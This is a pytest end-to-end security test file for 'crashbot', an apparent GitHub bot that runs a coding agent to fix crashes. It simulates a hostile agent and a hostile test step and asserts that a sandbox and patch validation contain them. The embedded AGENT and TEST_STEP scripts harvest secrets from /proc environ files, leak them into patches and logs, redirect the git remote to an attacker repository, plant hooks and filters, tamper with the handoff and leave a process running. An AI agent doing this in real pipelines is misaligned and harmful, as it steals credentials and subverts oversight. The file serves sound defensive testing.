"""``crashbot fix --phase prepare|work|publish`` end to end, run as the workflow runs them: three processes,
one after the other, each with only its own secrets (prepare and publish: the GitHub token, the App key and
the signing key; work: the engine's key), handing over through a directory like ``$RUNNER_TEMP``.

The attacks come from everything the work step runs: a hostile coding agent (the ``command`` engine) and a
hostile test step. They read every process's environment they can see, put what they find into the patch,
the agent's output and the test log, rewrite the workspace's remote, plant git hooks and filters, tamper
with the handoff and leave a process behind. Then everything that left crashbot is read back: issue
comments, the PR, every prompt the agent got, the branches of the real remote and of the attacker's.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.vocabulary import sig_label
from tests.fix.e2e_world import (
    APP_KEY,
    E2E_MARKS,
    ENGINE_KEY,
    HANDLER,
    KEY,
    RUNNER_SECRET,
    Stage,
    assert_no_secret,
    configure_attack,
    runner_file,
    what_left,
)
from tests.fix.pipeline_world import REPO
from tests.gitutil import git

pytestmark = E2E_MARKS

TRUSTED_ENV = {"CRASHBOT_TOKEN": "fixer-token", "E2E_SIGNING_KEY": KEY, "E2E_APP_KEY": APP_KEY}
WORK_ENV = {"E2E_ENGINE_KEY": ENGINE_KEY}
CRASHBOT_SECRETS = (KEY, "fixer-token", "MIIEe2eAppKeyLineThatIsSecret0123456789", RUNNER_SECRET)


def phase(
    stage: Stage, name: str, handoff: Path, secrets: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    """One workflow step: ``crashbot fix --phase <name>`` as its own process, with ``secrets`` and no
    other secret in its environment."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CRASHBOT_", "GITHUB_", "E2E_"))}
    env |= {"PYTHONPATH": str(Path(__file__).resolve().parents[2]), **secrets}
    argv = [sys.executable, "-m", "bot", "--config", str(stage.config), "fix", "--phase", name]
    argv += ["--handoff", str(handoff), "--workspace", str(stage.checkout.workspace)]
    argv += ["--issue", str(stage.issue)]
    if name != "work":
        argv += ["--repo", REPO, "--api-url", stage.standin.api_url]
    return subprocess.run(argv, env=env, capture_output=True, text=True, timeout=900, check=False)


@dataclass(frozen=True)
class Attack:
    """Where the attackers write what they saw (a directory the sandbox lets them write) and what they
    aim at: a bare repository of their own, a marker a planted hook or filter would create, the handoff."""

    out: Path
    evil: Path
    marker: Path
    handoff: Path
    leftover: str  # in the argv of the process the test step leaves behind

    @classmethod
    def make(cls, tmp_path: Path) -> Attack:
        out = tmp_path / "attacker-out"
        out.mkdir()
        evil = tmp_path / "attacker.git"
        git(tmp_path, "init", "-q", "--bare", str(evil))
        handoff = tmp_path / "runner-temp" / "crashbot-fix"
        return cls(out, evil, tmp_path / "planted-ran", handoff, f"crashbot-leftover-{uuid.uuid4().hex}")

    def seen(self) -> str:
        return "\n".join(p.read_text(encoding="utf-8") for p in sorted(self.out.glob("seen-*.txt")))

    def prompts(self) -> list[str]:
        return [p.read_text(encoding="utf-8") for p in sorted(self.out.glob("prompt-*.txt"))]


# The agent, called once per attempt. Every call it reads each /proc/<pid>/environ it can see (its parent's
# too), tries the handoff, the remote and git's own files, prints what it found (its output is posted)
# and keeps the prompt it got. Its first patch carries all it found; later ones are the real fix.
AGENT = r"""
import glob, os, pathlib, subprocess, sys
out, evil, marker, handoff = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
attacks = set(sys.argv[5:])
prompt = sys.stdin.read()
calls = out / "calls"
n = int(calls.read_text()) + 1 if calls.exists() else 1
calls.write_text(str(n))
(out / ("prompt-%d.txt" % n)).write_text(prompt)
seen = []
for f in sorted(set(glob.glob("/proc/[0-9]*/environ")) | {"/proc/%d/environ" % os.getppid()}):
    try:
        seen.append("== %s\n%s" % (f, open(f, "rb").read().replace(b"\0", b"\n").decode("utf-8", "replace")))
    except OSError as e:
        seen.append("== %s: %s" % (f, e.strerror))
for f in (glob.glob(handoff + "/*/*") or [handoff + "/"]) if "handoff" in attacks else []:
    try:
        with open(f, "a") as h:
            h.write("tampered")
        seen.append("tampered " + f)
    except OSError as e:
        seen.append("cannot tamper %s: %s" % (f, e.strerror))
if "git" in attacks:
    r = subprocess.run(["git", "remote", "set-url", "origin", evil], capture_output=True, text=True)
    seen.append("set-url exit %d" % r.returncode)
for f, text in ((".git/hooks/pre-push", "#!/bin/sh\ntouch %s\n" % marker),
                (".git/config", '\n[filter "evil"]\n\tclean = touch %s\n' % marker),
                (".git/info/attributes", "* filter=evil\n")) if "git" in attacks else ():
    try:
        with open(f, "a") as h:
            h.write(text)
        seen.append("wrote " + f)
    except OSError as e:
        seen.append("cannot write %s: %s" % (f, e.strerror))
dump = "\n".join(seen)
(out / ("seen-%d.txt" % n)).write_text(dump)
print(dump)
handler = pathlib.Path("src/server/game/Handlers/ChatHandler.cpp")
text = handler.read_text()
if n == 1 and "leak" in attacks:
    handler.write_text("// " + dump.replace("\n", "\n// ") + "\n" + text)
else:
    handler.write_text(text.replace("    SendWhisper(target, text);",
        '    if (!target)\n    {\n        SendSysMessage("Player " + name + " is not online.");\n'
        '        SetSentErrorMessage(true);\n        return false;\n    }\n\n    SendWhisper(target, text);', 1))
print("Added a null check for an offline whisper target.")
"""

# The test step, run after every build. It dumps every environment it can see into its log, tries the
# remote, git's config and the handoff, leaves a process behind, and fails the first time it runs (so its
# log is posted and fed back to the agent), passes the second.
TEST_STEP = r"""
cd {workspace}
for f in /proc/[0-9]*/environ /proc/$PPID/environ; do echo "== $f"; tr '\0' '\n' < "$f"; done
git remote set-url origin {evil}; echo "set-url exit $?"
printf '[filter "t"]\n\tclean = touch {marker}\n' >> .git/config; echo "config exit $?"
echo tampered >> {handoff}/{issue}/ticket.json; echo "handoff exit $?"
setsid {python} -c 'import time; time.sleep(900)' {leftover} > /dev/null 2>&1 &
n=$(cat {out}/test-runs 2>/dev/null || echo 0); n=$((n + 1)); echo $n > {out}/test-runs
echo "test run $n"
[ $n -ge 2 ]
"""


ALL_ATTACKS = ("handoff", "git", "leak")


def configure(
    stage: Stage,
    attack: Attack,
    agent: Path,
    *,
    sandbox: str = "auto",
    max_attempts: int = 3,
    attacks: tuple[str, ...] = ALL_ATTACKS,
) -> None:
    """The agent's ``attacks``: tamper with the handoff, with git's files, leak what it saw in its patch."""
    command = [sys.executable, str(agent), str(attack.out), str(attack.evil), str(attack.marker)]
    command += [str(attack.handoff), *attacks]
    test = TEST_STEP.format(
        evil=attack.evil,
        marker=attack.marker,
        handoff=attack.handoff,
        issue=stage.issue,
        python=sys.executable,
        leftover=attack.leftover,
        out=attack.out,
        workspace=stage.checkout.workspace,
    )
    lines = f"command = {json.dumps(command)}\nsandbox_read_only = {json.dumps([str(agent)])}\n"
    lines += f"sandbox_writable = {json.dumps([str(attack.out)])}\nsandbox = {json.dumps(sandbox)}\n"
    lines += f"test_command = {json.dumps(['sh', '-c', test])}\n"
    configure_attack(stage, "command", lines, max_attempts=max_attempts)


def leftovers(marker: str) -> list[str]:
    """Processes whose argv holds ``marker`` (the one the test step left behind, if it survived)."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            continue
    return found


def branch_of(stage: Stage) -> str:
    return "refs/heads/crashfix/" + sig_label(stage.checkout.crash.signature.id).removeprefix("sig:")


def test_phases_hostile_agent_and_test_step_in_the_sandbox_reach_no_secret_and_only_the_patch_is_pushed(
    stage: Stage, tmp_path: Path
) -> None:
    attack = Attack.make(tmp_path)
    runner_file(stage)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT, encoding="utf-8")
    configure(stage, attack, agent)
    ws = stage.checkout.workspace
    git_config = (ws / ".git" / "config").read_bytes()

    prepared = phase(stage, "prepare", attack.handoff, TRUSTED_ENV)
    assert prepared.returncode == 0 and "prepared" in prepared.stdout, prepared.stdout + prepared.stderr
    ticket = (attack.handoff / str(stage.issue) / "ticket.json").read_bytes()
    worked = phase(stage, "work", attack.handoff, WORK_ENV)
    assert worked.returncode == 0, worked.stdout + worked.stderr
    assert leftovers(attack.leftover) == []  # the sandbox ended every process of the step
    published = phase(stage, "publish", attack.handoff, TRUSTED_ENV)

    assert published.returncode == 0 and "pr-opened" in published.stdout, published.stdout + published.stderr
    seen = attack.seen()
    assert "== /proc/1/environ" in seen  # the agent looked, three times...
    assert ENGINE_KEY in seen  # ...and found its own key...
    for secret in CRASHBOT_SECRETS:  # ...and nothing of crashbot's
        assert secret not in seen, secret
    assert "cannot write .git/config" in seen and "set-url exit 0" not in seen
    assert "cannot tamper" in seen and "tampered /" not in seen  # the handoff does not exist in there
    # attempt 1 (the patch with what the agent saw) rejected, attempt 2 failed its test, attempt 3 built
    prompts = attack.prompts()
    assert len(prompts) == 3
    assert "test run 1" in prompts[2]  # the failing test log was fed back...
    for attempt in ("set-url exit 0", "config exit 0", "handoff exit 0"):  # ...and every attack failed
        assert attempt not in prompts[2]
    left = what_left(stage) + "\n".join(prompts)
    assert "== /proc/1/environ" in left  # ...and what the attackers dumped was posted...
    assert_no_secret(left)  # ...with no secret value in any comment, PR, prompt or branch
    # the push went to the real remote, with the validated path only; the attacker's got nothing
    branch = branch_of(stage)
    assert git(stage.remote, "diff", "--name-only", "main", branch).split() == [HANDLER]
    assert git(attack.evil, "for-each-ref") == ""
    assert not attack.marker.exists()
    assert (ws / ".git" / "config").read_bytes() == git_config
    assert (attack.handoff / str(stage.issue) / "ticket.json").read_bytes() == ticket


def test_phases_unsandboxed_test_step_sees_only_the_engine_key_and_its_remote_rewrite_is_ignored(
    stage: Stage, tmp_path: Path
) -> None:
    """With fix.sandbox = "none" the test step reads its parent's environment (the work process) and
    rewrites the workspace's remote to the attacker's: the parent holds only the engine's key, and
    publish pushes to the repository GitHub reports, not to the workspace's remote."""
    attack = Attack.make(tmp_path)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT, encoding="utf-8")
    configure(stage, attack, agent, sandbox="none", max_attempts=2, attacks=())
    ws = stage.checkout.workspace
    dumps = attack.out / "test-step.txt"
    # every ancestor's environment, up to init: the work process, and whatever started it
    test = (
        f"cd {ws}; p=$PPID; while [ \"$p\" -gt 1 ]; do echo \"== $p\"; tr '\\0' '\\n' < /proc/$p/environ;"
        f" p=$(awk '/^PPid:/ {{print $2}}' /proc/$p/status); done > {dumps};"
        f" git remote set-url origin {attack.evil}"
    )
    config = stage.config.read_text(encoding="utf-8")
    config = config.replace(
        config[config.index("test_command") :], f"test_command = {json.dumps(['sh', '-c', test])}\n"
    )
    stage.config.write_text(config, encoding="utf-8")
    try:
        for name, secrets in (("prepare", TRUSTED_ENV), ("work", WORK_ENV), ("publish", TRUSTED_ENV)):
            proc = phase(stage, name, attack.handoff, secrets)
            assert proc.returncode == 0, name + proc.stdout + proc.stderr
        assert "pr-opened" in proc.stdout
        assert git(ws, "remote", "get-url", "origin") == str(attack.evil)  # the rewrite happened
    finally:
        git(ws, "remote", "set-url", "origin", str(stage.remote))

    dumped = dumps.read_text(encoding="utf-8")
    assert f"E2E_ENGINE_KEY={ENGINE_KEY}" in dumped  # its parent, the work process: the engine's key...
    for secret in CRASHBOT_SECRETS:  # ...and none of crashbot's, in any process it could see
        assert secret not in dumped, secret
    assert git(stage.remote, "diff", "--name-only", "main", branch_of(stage)).split() == [HANDLER]
    assert git(attack.evil, "for-each-ref") == ""
    assert_no_secret(what_left(stage))


def test_phases_unsandboxed_planted_filter_and_hook_stop_the_hand_back_and_never_run(
    stage: Stage, tmp_path: Path
) -> None:
    """A test step that plants a filter and a hook in the workspace's .git (possible only unsandboxed):
    the work step hands nothing back for the issue, publish records an error and writes nothing, and
    neither ever runs."""
    attack = Attack.make(tmp_path)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT, encoding="utf-8")
    configure(stage, attack, agent, sandbox="none", max_attempts=1, attacks=())
    ws = stage.checkout.workspace
    planter = (
        f"cd {ws} && git config filter.evil.clean 'touch {attack.marker}; cat' && echo '* filter=evil' > .git/info/attributes"
        f" && printf '#!/bin/sh\\ntouch {attack.marker}\\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push"
    )
    config = stage.config.read_text(encoding="utf-8")
    config = config.replace(
        config[config.index("test_command") :], f"test_command = {json.dumps(['sh', '-c', planter])}\n"
    )
    stage.config.write_text(config, encoding="utf-8")
    try:
        assert phase(stage, "prepare", attack.handoff, TRUSTED_ENV).returncode == 0
        worked = phase(stage, "work", attack.handoff, WORK_ENV)
        published = phase(stage, "publish", attack.handoff, TRUSTED_ENV)
    finally:
        subprocess.run(["git", "config", "--remove-section", "filter.evil"], cwd=ws, check=False)
        (ws / ".git" / "info" / "attributes").unlink(missing_ok=True)
        (ws / ".git" / "hooks" / "pre-push").unlink(missing_ok=True)

    assert worked.returncode == 1 and "filter.evil" in worked.stdout + worked.stderr
    assert not (attack.handoff / str(stage.issue) / "attempts.json").exists()
    assert published.returncode == 1 and "error" in published.stdout
    assert not attack.marker.exists()
    assert "crashfix/" not in git(stage.remote, "branch", "--list")
    assert stage.standin.pulls(REPO) == []
    [analysis] = stage.standin.comments(REPO, stage.issue)  # nothing but prepare's analysis
    assert analysis["body"].startswith("<!-- crashbot:analysis -->")


def _forged_result(stage: Stage, diff: str) -> str:
    attempt = {
        "number": 1,
        "step": "built",
        "detail": "built",
        "diff": diff,
        "reasoning": "trust me",
        "model": "m",
        "log_tail": "",
        "engine_s": 0.0,
        "build_s": 0.0,
        "tests_ok": True,
        "diagnostics": [],
    }
    usage = {"engine_s": 0.0, "build_s": 0.0, "tokens": 0, "model": "m"}
    return json.dumps({"attempts": [attempt], "usage": usage, "tokens_before": 0})


WORKFLOW_DIFF = "--- /dev/null\n+++ b/.github/workflows/pwn.yml\n@@ -0,0 +1,2 @@\n+on: push\n+jobs: {}\n"


@pytest.mark.parametrize(
    "tamper",
    [
        "ticket rewritten",
        "result is a symlink to a secret",
        "result too large",
        "result claims a patch to the workflows",
    ],
)
def test_phases_a_compromised_work_step_tampering_with_the_handoff_gets_nothing_published(
    stage: Stage, tmp_path: Path, tamper: str
) -> None:
    """The work step as the attacker: it rewrites what prepare handed over and what it hands back. The
    ticket is sealed with the signing key it never held; the result is read strictly and its patch
    validated again. Nothing is pushed, and no secret is posted."""
    attack = Attack.make(tmp_path)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT, encoding="utf-8")
    configure(stage, attack, agent, max_attempts=1)
    assert phase(stage, "prepare", attack.handoff, TRUSTED_ENV).returncode == 0
    issue_dir = attack.handoff / str(stage.issue)
    ticket, result = issue_dir / "ticket.json", issue_dir / "attempts.json"
    result.write_text(_forged_result(stage, WORKFLOW_DIFF), encoding="utf-8")
    if tamper == "ticket rewritten":
        sealed = json.loads(ticket.read_text(encoding="utf-8"))
        sealed["ticket"]["base_sha"] = "0" * 40
        ticket.write_text(json.dumps(sealed), encoding="utf-8")
    elif tamper == "result is a symlink to a secret":
        secret = tmp_path / "signing.key"
        secret.write_text(json.dumps({"attempts": KEY}), encoding="utf-8")
        result.unlink()
        result.symlink_to(secret)
    elif tamper == "result too large":
        result.write_text(" " * (16 * 1024 * 1024 + 1) + "{}", encoding="utf-8")

    published = phase(stage, "publish", attack.handoff, TRUSTED_ENV)

    out = published.stdout + published.stderr
    assert "Traceback" not in out
    assert KEY not in out
    assert "crashfix/" not in git(stage.remote, "branch", "--list")
    assert stage.standin.pulls(REPO) == []
    assert_no_secret(what_left(stage))
    if tamper == "result claims a patch to the workflows":
        assert published.returncode == 0 and "rejected" in published.stdout  # validated again: refused
    else:
        assert published.returncode == 1 and "error" in published.stdout
        [analysis] = stage.standin.comments(REPO, stage.issue)  # nothing written after prepare's
        assert analysis["body"].startswith("<!-- crashbot:analysis -->")


def test_phases_work_refuses_to_start_with_the_signing_key_in_its_environment(
    stage: Stage, tmp_path: Path
) -> None:
    """A mis-written workflow that gives the work step the signing key: one line naming it, exit 2,
    before any task is read or any engine called."""
    attack = Attack.make(tmp_path)
    agent = tmp_path / "agent.py"
    agent.write_text(AGENT, encoding="utf-8")
    configure(stage, attack, agent, max_attempts=1)
    assert phase(stage, "prepare", attack.handoff, TRUSTED_ENV).returncode == 0

    worked = phase(stage, "work", attack.handoff, {**WORK_ENV, "E2E_SIGNING_KEY": KEY})

    assert worked.returncode == 2
    lines = worked.stderr.strip().splitlines()
    assert len(lines) == 1 and "E2E_SIGNING_KEY" in lines[0] and "Traceback" not in worked.stderr
    assert KEY not in worked.stderr + worked.stdout
    assert not (attack.out / "calls").exists()  # the agent never ran
    assert not (attack.handoff / str(stage.issue) / "attempts.json").exists()
